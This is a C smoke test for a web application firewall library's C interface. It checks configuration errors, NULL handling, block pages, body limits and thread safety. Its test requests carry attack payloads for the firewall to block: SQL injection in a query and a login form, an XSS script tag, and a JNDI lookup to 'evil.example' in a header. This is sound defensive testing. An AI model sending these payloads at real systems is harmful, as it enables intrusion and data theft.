/*
 * The C ABI from C: compiled with cc and linked against librampart_ffi.a by
 * adapters/ffi/tests/smoke.rs, which passes three node.toml files:
 *
 *   smoke BLOCK_TOML OVER_LIMIT_TOML BAD_TOML
 *
 * BLOCK_TOML: mode = "block", defaults otherwise.
 * OVER_LIMIT_TOML: body_limit = 1024, over_limit = "block".
 * BAD_TOML: a node.toml the engine refuses.
 *
 * Prints one line per check ("ok ..." or "FAIL ...") and exits 0 when all
 * passed.
 */
#include "rampart.h"

#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int failures;
static int checks;

#define CHECK(cond, ...)                                       \
    do {                                                       \
        checks++;                                              \
        if (cond) {                                            \
            printf("ok   ");                                   \
        } else {                                               \
            failures++;                                        \
            printf("FAIL ");                                   \
        }                                                      \
        printf(__VA_ARGS__);                                   \
        printf("  [%s:%d]\n", __FILE__, __LINE__);             \
    } while (0)

static int str_eq(const char *a, const char *b)
{
    return a && b && strcmp(a, b) == 0;
}

static rampart_request *request(size_t limit, const char *method, const char *target)
{
    rampart_request *r = rampart_request_new(limit);
    rampart_request_set_method(r, method, strlen(method));
    rampart_request_set_target(r, target, strlen(target));
    rampart_request_add_header(r, "Host", 4, "shop.example", 12);
    rampart_request_add_header(r, "User-Agent", 10, "smoke/1.0", 9);
    rampart_request_set_client_ip(r, "192.0.2.10");
    return r;
}

static void header(rampart_request *r, const char *name, const char *value)
{
    rampart_request_add_header(r, name, strlen(name), value, strlen(value));
}

/* Several threads inspect with the same guard at once. */
struct worker {
    const rampart_guard *guard;
    int blocked;
    int allowed;
};

static void *work(void *arg)
{
    struct worker *w = arg;
    int i;
    for (i = 0; i < 50; i++) {
        rampart_request *r =
            request(rampart_body_limit(w->guard), "GET",
                    i % 2 ? "/search?q=1'%20union%20select%20password%20from%20users--"
                          : "/search?q=red+running+shoes");
        rampart_decision *d = rampart_inspect(w->guard, r, RAMPART_MODE_CONFIG);
        if (rampart_decision_action(d) == RAMPART_ACTION_BLOCK) {
            w->blocked++;
        } else if (rampart_decision_action(d) == RAMPART_ACTION_ALLOW) {
            w->allowed++;
        }
        rampart_decision_free(d);
        rampart_request_free(r);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    char err[512];
    char tiny[8];
    rampart_guard *g, *ol;
    rampart_request *r;
    rampart_decision *d;
    size_t n = 0;
    const char *page;
    int i;

    if (argc != 4) {
        fprintf(stderr, "usage: smoke BLOCK_TOML OVER_LIMIT_TOML BAD_TOML\n");
        return 2;
    }

    /* ---- the library and configuration checks ---- */
    CHECK(rampart_abi_version() == RAMPART_ABI_VERSION, "ABI version %u", rampart_abi_version());
    CHECK(rampart_version() && *rampart_version(), "version %s", rampart_version());
    CHECK(rampart_config_check(argv[1], err, sizeof err) == 0, "a valid node.toml checks");
    err[0] = 0;
    CHECK(rampart_config_check(argv[3], err, sizeof err) == -1 && err[0],
          "a bad node.toml fails the check: %s", err);
    CHECK(rampart_config_check(NULL, err, sizeof err) == -1, "config_check(NULL) fails: %s", err);

    /* ---- a bad configuration gives an error message ---- */
    err[0] = 0;
    g = rampart_guard_new(argv[3], "smoke", err, sizeof err);
    CHECK(g == NULL && strstr(err, "sideways") != NULL,
          "guard_new on a bad node.toml: NULL with a message: %s", err);
    err[0] = 0;
    g = rampart_guard_new("/nonexistent/node.toml", "smoke", err, sizeof err);
    CHECK(g == NULL && strstr(err, "/nonexistent/node.toml") != NULL,
          "guard_new on a missing file: %s", err);
    memset(tiny, 'x', sizeof tiny);
    g = rampart_guard_new("/nonexistent/node.toml", "smoke", tiny, sizeof tiny);
    CHECK(g == NULL && strlen(tiny) == sizeof tiny - 1, "the message is cut to the buffer: \"%s\"", tiny);
    g = rampart_guard_new("/nonexistent/node.toml", "smoke", NULL, 0);
    CHECK(g == NULL, "guard_new with no error buffer");
    g = rampart_guard_new(NULL, "smoke", err, sizeof err);
    CHECK(g == NULL && err[0], "guard_new(NULL path): %s", err);
    g = rampart_guard_new("/tmp/\xff\xfe.toml", "smoke", err, sizeof err);
    CHECK(g == NULL && strstr(err, "UTF-8") != NULL, "guard_new(non-UTF-8 path): %s", err);

    /* ---- NULL everywhere ---- */
    CHECK(rampart_inspect(NULL, NULL, 0) == NULL, "inspect(NULL, NULL)");
    CHECK(rampart_body_limit(NULL) == 0 && rampart_over_limit(NULL) == -1 && rampart_guard_mode(NULL) == 0,
          "guard accessors on NULL");
    CHECK(rampart_decision_action(NULL) == -1 && rampart_decision_status(NULL) == 0 &&
              rampart_decision_class(NULL) == NULL && rampart_decision_request_id(NULL) == NULL &&
              rampart_decision_body(NULL, &n) == NULL && n == 0,
          "decision accessors on NULL");
    CHECK(rampart_request_set_method(NULL, "GET", 3) == -1 &&
              rampart_request_add_header(NULL, "a", 1, "b", 1) == -1 &&
              rampart_request_append_body(NULL, "x", 1) == 0,
          "request setters on NULL");
    rampart_guard_free(NULL);
    rampart_request_free(NULL);
    rampart_decision_free(NULL);

    /* ---- a guard ---- */
    g = rampart_guard_new(argv[1], "smoke", err, sizeof err);
    CHECK(g != NULL, "guard_new on a valid node.toml%s%s", g ? "" : ": ", g ? "" : err);
    if (!g) {
        printf("%d of %d checks failed\n", failures, checks);
        return 1;
    }
    CHECK(rampart_guard_mode(g) == RAMPART_MODE_BLOCK, "mode block");
    CHECK(rampart_body_limit(g) == 1048576, "body_limit %zu", rampart_body_limit(g));
    CHECK(rampart_over_limit(g) == RAMPART_OVER_LIMIT_INSPECT_PREFIX, "over_limit inspect-prefix");

    /* a benign request passes */
    r = request(rampart_body_limit(g), "GET", "/search?q=red+running+shoes");
    d = rampart_inspect(g, r, RAMPART_MODE_CONFIG);
    CHECK(d && rampart_decision_action(d) == RAMPART_ACTION_ALLOW, "a benign GET is allowed");
    CHECK(rampart_decision_body(d, &n) != NULL && n == 0 && str_eq(rampart_decision_content_type(d), ""),
          "no page for an allowed request");
    CHECK(rampart_finish(g, d, 200) == RAMPART_ACTION_ALLOW, "finish(200) allows");
    CHECK(rampart_finish(g, d, 200) == RAMPART_ACTION_ALLOW, "a second finish keeps the action");
    rampart_decision_free(d);
    rampart_request_free(r);

    /* an attack in the query is blocked, with a JSON page */
    r = request(rampart_body_limit(g), "GET", "/search?q=1'%20union%20select%20password%20from%20users--");
    d = rampart_inspect(g, r, RAMPART_MODE_CONFIG);
    CHECK(rampart_decision_action(d) == RAMPART_ACTION_BLOCK && rampart_decision_status(d) == 403,
          "SQL injection in the query: block %d", rampart_decision_status(d));
    CHECK(str_eq(rampart_decision_class(d), "sqli"), "class %s", rampart_decision_class(d));
    CHECK(rampart_decision_rule(d) != NULL && rampart_decision_point(d) != NULL,
          "rule %s at %s", rampart_decision_rule(d), rampart_decision_point(d));
    CHECK(rampart_decision_score(d) > 0, "score %u", rampart_decision_score(d));
    CHECK(rampart_decision_request_id(d) && strlen(rampart_decision_request_id(d)) == 16,
          "request id %s", rampart_decision_request_id(d));
    CHECK(str_eq(rampart_decision_reason(d), "blocked"), "reason %s", rampart_decision_reason(d));
    page = rampart_decision_body(d, &n);
    CHECK(str_eq(rampart_decision_content_type(d), "application/json") && n > 0 && page[0] == '{' &&
              strstr(page, rampart_decision_request_id(d)) != NULL,
          "JSON block page (%zu bytes) with the request id", n);
    CHECK(rampart_finish(g, d, 403) == RAMPART_ACTION_BLOCK, "finish(403) keeps the block");
    rampart_decision_free(d);

    /* the same attack, monitor and off overrides */
    d = rampart_inspect(g, r, RAMPART_MODE_MONITOR);
    CHECK(rampart_decision_action(d) == RAMPART_ACTION_MONITOR && rampart_decision_status(d) == 200,
          "monitor override: monitor, status %d", rampart_decision_status(d));
    rampart_decision_free(d);
    d = rampart_inspect(g, r, RAMPART_MODE_OFF);
    CHECK(rampart_decision_action(d) == RAMPART_ACTION_ALLOW, "off override: allow");
    rampart_decision_free(d);
    rampart_request_free(r);

    /* HTML page when Accept prefers it */
    r = request(rampart_body_limit(g), "GET", "/?q=<script>alert(1)</script>");
    header(r, "Accept", "text/html,application/xhtml+xml");
    d = rampart_inspect(g, r, RAMPART_MODE_CONFIG);
    page = rampart_decision_body(d, &n);
    CHECK(rampart_decision_action(d) == RAMPART_ACTION_BLOCK &&
              strncmp(rampart_decision_content_type(d), "text/html", 9) == 0 && n > 0 &&
              strstr(page, "403") != NULL,
          "XSS with Accept: text/html: an HTML page (%s)", rampart_decision_content_type(d));
    rampart_decision_free(d);
    rampart_request_free(r);

    /* an attack in a header */
    r = request(rampart_body_limit(g), "GET", "/");
    header(r, "X-Api-Version", "${jndi:ldap://evil.example/a}");
    d = rampart_inspect(g, r, RAMPART_MODE_CONFIG);
    CHECK(rampart_decision_action(d) == RAMPART_ACTION_BLOCK, "JNDI in a header: block (%s at %s)",
          rampart_decision_class(d), rampart_decision_point(d));
    rampart_decision_free(d);
    rampart_request_free(r);

    /* an attack in a form body, appended in chunks */
    r = request(rampart_body_limit(g), "POST", "/login");
    header(r, "Content-Type", "application/x-www-form-urlencoded");
    rampart_request_append_body(r, "user=admin&pass=", 16);
    rampart_request_append_body(r, "x' or '1'='1' --", 16);
    CHECK(rampart_request_body_len(r) == 32, "body of %zu bytes", rampart_request_body_len(r));
    d = rampart_inspect(g, r, RAMPART_MODE_CONFIG);
    CHECK(rampart_decision_action(d) == RAMPART_ACTION_BLOCK, "SQL injection in a form body: block (%s at %s)",
          rampart_decision_class(d), rampart_decision_point(d));
    rampart_decision_free(d);
    rampart_request_free(r);

    /* a benign JSON body */
    r = request(rampart_body_limit(g), "POST", "/api/cart");
    header(r, "Content-Type", "application/json");
    rampart_request_append_body(r, "{\"sku\":\"A-1\",\"qty\":2}", 21);
    d = rampart_inspect(g, r, RAMPART_MODE_CONFIG);
    CHECK(rampart_decision_action(d) == RAMPART_ACTION_ALLOW, "a benign JSON POST is allowed");
    rampart_decision_free(d);
    /* bytes that are not UTF-8 (and a NUL) in a header are data, not an error */
    rampart_request_add_header(r, "X-Raw", 5, "\xff\xfe\x00z", 4);
    d = rampart_inspect(g, r, RAMPART_MODE_CONFIG);
    CHECK(d != NULL && rampart_decision_action(d) >= 0, "a header with bytes 0xff 0xfe 0x00: a verdict (%s, %s)",
          rampart_decision_reason(d), rampart_decision_class(d) ? rampart_decision_class(d) : "-");
    rampart_decision_free(d);
    CHECK(rampart_request_set_client_ip(r, "\xff\xfe") == -1, "a non-UTF-8 client address is refused");
    CHECK(rampart_request_set_client_ip(r, "not an address") == -1, "a non-address is refused");
    CHECK(rampart_request_set_client_ip(r, "2001:db8::7") == 0, "an IPv6 client address");
    CHECK(rampart_request_set_method(r, NULL, 3) == -1, "NULL data with a length is refused");
    CHECK(rampart_request_set_method(r, NULL, 0) == 0, "NULL data with length 0 is empty");
    rampart_request_free(r);

    /* length refusal does not apply with over_limit = inspect-prefix */
    r = request(rampart_body_limit(g), "POST", "/upload");
    CHECK(rampart_refuse_length(g, r, 10 * 1048576LL, RAMPART_MODE_CONFIG) == NULL,
          "inspect-prefix: no refusal by length");
    rampart_request_free(r);

    /* several threads share the guard */
    {
        pthread_t t[4];
        struct worker w[4];
        int blocked = 0, allowed = 0;
        for (i = 0; i < 4; i++) {
            w[i].guard = g;
            w[i].blocked = w[i].allowed = 0;
            pthread_create(&t[i], NULL, work, &w[i]);
        }
        for (i = 0; i < 4; i++) {
            pthread_join(t[i], NULL);
            blocked += w[i].blocked;
            allowed += w[i].allowed;
        }
        CHECK(blocked == 100 && allowed == 100, "4 threads: %d blocked, %d allowed", blocked, allowed);
    }

    /* ---- over_limit = block ---- */
    ol = rampart_guard_new(argv[2], "smoke", err, sizeof err);
    CHECK(ol != NULL, "a second guard (over_limit = block)%s%s", ol ? "" : ": ", ol ? "" : err);
    if (ol) {
        CHECK(rampart_body_limit(ol) == 1024 && rampart_over_limit(ol) == RAMPART_OVER_LIMIT_BLOCK,
              "body_limit 1024, over_limit block");
        r = request(rampart_body_limit(ol), "POST", "/upload");
        d = rampart_refuse_length(ol, r, 5000, RAMPART_MODE_CONFIG);
        CHECK(d && rampart_decision_action(d) == RAMPART_ACTION_BLOCK && rampart_decision_status(d) == 413 &&
                  str_eq(rampart_decision_reason(d), "body_too_large"),
              "a declared length over the limit: 413 %s", rampart_decision_reason(d));
        page = rampart_decision_body(d, &n);
        CHECK(n > 0 && strstr(page, "body_too_large") != NULL, "the 413 page says body_too_large");
        rampart_decision_free(d);
        CHECK(rampart_refuse_length(ol, r, 1024, RAMPART_MODE_CONFIG) == NULL, "at the limit: no refusal");
        CHECK(rampart_refuse_length(ol, r, -1, RAMPART_MODE_CONFIG) == NULL, "unknown length: no refusal");
        CHECK(rampart_refuse_length(ol, r, 5000, RAMPART_MODE_OFF) == NULL, "mode off: no refusal");
        rampart_request_free(r);

        /* a server limit below node.toml's */
        r = request(100, "POST", "/upload");
        d = rampart_refuse_length(ol, r, 500, RAMPART_MODE_CONFIG);
        CHECK(d && rampart_decision_status(d) == 413, "a server limit of 100: 500 bytes refused");
        rampart_decision_free(d);
        rampart_request_free(r);

        /* a chunked body found longer than the limit while reading */
        r = request(rampart_body_limit(ol), "POST", "/upload");
        {
            char chunk[700];
            size_t kept;
            memset(chunk, 'a', sizeof chunk);
            kept = rampart_request_append_body(r, chunk, sizeof chunk);
            kept += rampart_request_append_body(r, chunk, sizeof chunk);
            CHECK(kept == 1024 && rampart_request_body_len(r) == 1024, "1024 of 1400 bytes kept");
        }
        d = rampart_inspect(ol, r, RAMPART_MODE_CONFIG);
        CHECK(rampart_decision_action(d) == RAMPART_ACTION_BLOCK && rampart_decision_status(d) == 413,
              "a truncated body with over_limit = block: 413");
        rampart_decision_free(d);
        rampart_request_free(r);
        rampart_guard_free(ol);
    }

    rampart_guard_free(g);
    printf("%d of %d checks failed\n", failures, checks);
    return failures ? 1 : 0;
}
